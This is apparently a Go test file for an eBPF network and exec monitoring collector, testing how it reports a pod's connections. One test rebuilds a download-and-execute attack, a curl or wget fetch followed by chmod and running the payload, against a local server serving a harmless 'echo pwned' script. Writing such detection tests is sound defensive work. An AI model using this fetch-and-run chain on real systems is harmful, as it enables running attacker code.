package collect

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// podHelper is a pod's server in the test cgroup: it listens (printing
// "listen <port>"), accepts and keeps what the test connects, holds a TCP
// connection to hold (made at start, before the test tracks the cgroup) and
// on each stdin line "reconnect" closes it and connects again (a pool
// reconnecting after its connection was cut), answering "ok".
func podHelper(hold string) error {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer ln.Close()
	go drain(ln)
	held, err := net.Dial("tcp4", hold)
	if err != nil {
		return err
	}
	fmt.Println("listen", ln.Addr().(*net.TCPAddr).Port)
	sc := bufio.NewScanner(os.Stdin)
	for sc.Scan() {
		if sc.Text() != "reconnect" {
			continue
		}
		_ = held.Close()
		if held, err = net.Dial("tcp4", hold); err != nil {
			return err
		}
		fmt.Println("ok")
	}
	return held.Close()
}

// drain accepts connections and reads them to the end until ln is closed.
func drain(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		go func() { _, _ = io.Copy(io.Discard, c); _ = c.Close() }()
	}
}

// TestPodConnections is a pod's TCP life on the real kernel, as in the e2e's
// download-and-exec attack (issue 16): a server in a cgroup that accepts
// connections, a connection it held before it was tracked and reconnects
// after a cut, and a curl download then exec. Every connection the
// collector reports is one the pod made, to the port it made it to; the
// connection held from before tracking is reported by Sockets, so a
// learning window sees it (the e2e's "phantom" new port was the held
// connection's listener: made before the sensor started, never learned,
// reconnected after isolation cut it).
func TestPodConnections(t *testing.T) {
	requireBPF(t)
	cg := newCgroup(t, "pod")
	hold, holdPort := tcpListener(t)
	t.Cleanup(func() { _ = hold.Close() })
	go drain(hold)
	payload := newPayloadServer(t)

	// The pod starts before the collector: its held connection exists before Track.
	cmd := exec.Command(os.Args[0], "-test.run=^$", "127.0.0.1:"+strconv.Itoa(int(holdPort)))
	cmd.Env = append(os.Environ(), helperEnv+"=pod")
	cmd.SysProcAttr = &unix.SysProcAttr{UseCgroupFD: true, CgroupFD: cg.fd}
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = stdin.Close(); _ = cmd.Process.Kill(); _ = cmd.Wait() })
	lines := bufio.NewScanner(stdout)
	if !lines.Scan() {
		t.Fatalf("pod helper printed nothing: %v", lines.Err())
	}
	serverPort := parseListenPort(t, lines.Text())
	// Clients of the pod's server (outside the cgroup), kept open: their
	// accepted sockets in the cgroup must not pass for connections to the
	// clients' ephemeral ports.
	for range 3 {
		c, err := net.Dial("tcp4", "127.0.0.1:"+strconv.Itoa(int(serverPort)))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = c.Close() })
		_, _ = c.Write([]byte("GET / HTTP/1.0\r\n\r\n"))
	}

	c := newCollector(t, Options{})
	s := runCollector(t, c)
	if err := c.Track(cg.id); err != nil {
		t.Fatal(err)
	}
	loop := netip.MustParseAddr("127.0.0.1")
	existing, err := eventually(t, func() ([]Event, error) { return c.Sockets(cg.id, cg.path) }, func(evs []Event) error {
		if len(evs) < 2 {
			return fmt.Errorf("%d sockets", len(evs))
		}
		return nil
	})
	if err != nil {
		t.Fatalf("Sockets: %v", err)
	}
	want := map[Conn]bool{
		{Family: afINET, Addr: loop, Port: holdPort, Protocol: "TCP"}:                 false,
		{Family: afINET, Addr: loop, Port: serverPort, Protocol: "TCP", Listen: true}: false,
	}
	for _, e := range existing {
		if e.CgroupID != cg.id || e.Conn == nil || e.Exec != nil {
			t.Fatalf("Sockets: event %+v, want connections of cgroup %d", e, cg.id)
		}
		if _, ok := want[*e.Conn]; !ok {
			t.Errorf("Sockets reported %+v: the pod made no such connection or listener (held to %d, listens on %d)%s", *e.Conn, holdPort, serverPort, describe(existing))
		}
		want[*e.Conn] = true
	}
	for w, seen := range want {
		if !seen {
			t.Errorf("Sockets did not report %+v (the connection or listener the pod had before it was tracked)%s", w, describe(existing))
		}
	}

	// A reconnect after a cut is reported to the same port.
	if _, err := fmt.Fprintln(stdin, "reconnect"); err != nil {
		t.Fatal(err)
	}
	if !lines.Scan() || lines.Text() != "ok" {
		t.Fatalf("pod helper did not reconnect: %q %v", lines.Text(), lines.Err())
	}
	s.waitFor(t, "reconnect to the held port", func(e Event) bool {
		return e.CgroupID == cg.id && e.Conn != nil && !e.Conn.Listen && e.Conn.Port == holdPort
	})

	// Download and exec, as the attack runs it.
	dl := filepath.Join(t.TempDir(), "payload")
	script := fmt.Sprintf("curl -fsS -o %s %s/payload && chmod +x %s && %s", dl, payload.url, dl, dl)
	if _, err := exec.LookPath("curl"); err != nil {
		script = fmt.Sprintf("wget -q -O %s %s/payload && chmod +x %s && %s", dl, payload.url, dl, dl)
	}
	if out := cg.run(t, nil, "/bin/sh", "-c", script); !strings.Contains(out, "pwned") {
		t.Fatalf("payload did not run: %q", out)
	}
	s.waitFor(t, "exec of the downloaded payload", isExecOf(cg.id, dl))
	s.waitFor(t, "connection to the payload server", func(e Event) bool {
		return e.CgroupID == cg.id && e.Conn != nil && !e.Conn.Listen && e.Conn.Port == payload.port && e.Conn.Addr == loop
	})
	// Nothing else: every connection of the cgroup is to a port the pod
	// connected to or listens on.
	time.Sleep(100 * time.Millisecond) // records still in the ring buffer
	for _, e := range s.snapshot() {
		if e.Conn == nil || e.CgroupID != cg.id {
			continue
		}
		if p := e.Conn.Port; (e.Conn.Listen && p != serverPort) || (!e.Conn.Listen && p != holdPort && p != payload.port) {
			t.Errorf("phantom connection %+v (held %d, payload %d, server %d)%s", *e.Conn, holdPort, payload.port, serverPort, describe(s.snapshot()))
		}
	}
}

type payloadServer struct {
	url  string
	port uint16
}

// newPayloadServer serves the "malware" an attacker downloads.
func newPayloadServer(t *testing.T) payloadServer {
	t.Helper()
	ln, port := tcpListener(t)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = fmt.Fprint(w, "#!/bin/sh\necho pwned\n")
	}), ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return payloadServer{url: "http://" + ln.Addr().String(), port: port}
}

func tcpListener(t *testing.T) (net.Listener, uint16) {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	return ln, uint16(ln.Addr().(*net.TCPAddr).Port)
}

// eventually retries get until check accepts its answer or 5s pass.
func eventually[T any](t *testing.T, get func() (T, error), check func(T) error) (T, error) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		v, err := get()
		if err == nil {
			err = check(v)
		}
		if err == nil || time.Now().After(deadline) {
			return v, err
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestSocketEvents: accepted connections are told from outbound ones by
// their local port, each destination is reported once, other cgroups'
// sockets are left out.
func TestSocketEvents(t *testing.T) {
	a := netip.MustParseAddr
	recs := []sockRecord{
		{cgroup: 7, family: afINET, state: tcpListen, laddr: a("0.0.0.0"), lport: 8080},
		{cgroup: 9, family: afINET, state: tcpListen, laddr: a("127.0.0.1"), lport: 5432},
		// Accepted on 8080: the peer's ephemeral port is no destination.
		{cgroup: 7, family: afINET, state: tcpEstablished, laddr: a("10.0.0.1"), lport: 8080, raddr: a("10.0.0.9"), rport: 41234},
		// Outbound twice to one destination, and one connecting.
		{cgroup: 7, family: afINET, state: tcpEstablished, laddr: a("127.0.0.1"), lport: 40001, raddr: a("127.0.0.1"), rport: 5432},
		{cgroup: 7, family: afINET, state: tcpEstablished, laddr: a("127.0.0.1"), lport: 40002, raddr: a("127.0.0.1"), rport: 5432},
		{cgroup: 7, family: afINET6, state: tcpSynSent, laddr: a("::1"), lport: 40003, raddr: a("::1"), rport: 443},
		// Another cgroup's connection.
		{cgroup: 9, family: afINET, state: tcpEstablished, laddr: a("127.0.0.1"), lport: 40004, raddr: a("127.0.0.1"), rport: 6379},
	}
	now := time.Unix(1, 0)
	got := socketEvents(recs, 7, now)
	want := []Conn{
		{Family: afINET, Addr: a("0.0.0.0"), Port: 8080, Protocol: "TCP", Listen: true},
		{Family: afINET, Addr: a("127.0.0.1"), Port: 5432, Protocol: "TCP"},
		{Family: afINET6, Addr: a("::1"), Port: 443, Protocol: "TCP"},
	}
	if len(got) != len(want) {
		t.Fatalf("got %d events, want %d:%s", len(got), len(want), describe(got))
	}
	for i, w := range want {
		if got[i].CgroupID != 7 || !got[i].Time.Equal(now) || got[i].Conn == nil || *got[i].Conn != w {
			t.Errorf("event %d: %+v %+v, want %+v", i, got[i], got[i].Conn, w)
		}
	}
}

// TestDecodeSockRecord: the layout the iterator writes, and refusals.
func TestDecodeSockRecord(t *testing.T) {
	b := make([]byte, sockRecordSize)
	le := binary.LittleEndian
	le.PutUint64(b[0:], 42)
	le.PutUint16(b[8:], afINET)
	le.PutUint16(b[10:], 40000)
	le.PutUint16(b[12:], 443)
	b[14] = tcpEstablished
	copy(b[16:], []byte{127, 0, 0, 1})
	copy(b[32:], []byte{10, 1, 2, 3})
	r, err := decodeSockRecord(b)
	if err != nil {
		t.Fatal(err)
	}
	if r != (sockRecord{cgroup: 42, family: afINET, lport: 40000, rport: 443, state: tcpEstablished,
		laddr: netip.MustParseAddr("127.0.0.1"), raddr: netip.MustParseAddr("10.1.2.3")}) {
		t.Fatalf("decoded %+v", r)
	}
	if got := int(unsafe.Sizeof(collectSockRecord{})); got != sockRecordSize {
		t.Fatalf("sock_record is %d bytes in the BPF object, decoder expects %d", got, sockRecordSize)
	}
	for name, mutate := range map[string]func([]byte) []byte{
		"short":  func(b []byte) []byte { return b[:20] },
		"family": func(b []byte) []byte { le.PutUint16(b[8:], 1); return b },
		"state":  func(b []byte) []byte { b[14] = 7; return b },
	} {
		bad := mutate(append([]byte(nil), b...))
		if _, err := decodeSockRecord(bad); !errors.Is(err, ErrMalformed) {
			t.Errorf("%s: error %v, want ErrMalformed", name, err)
		}
	}
}
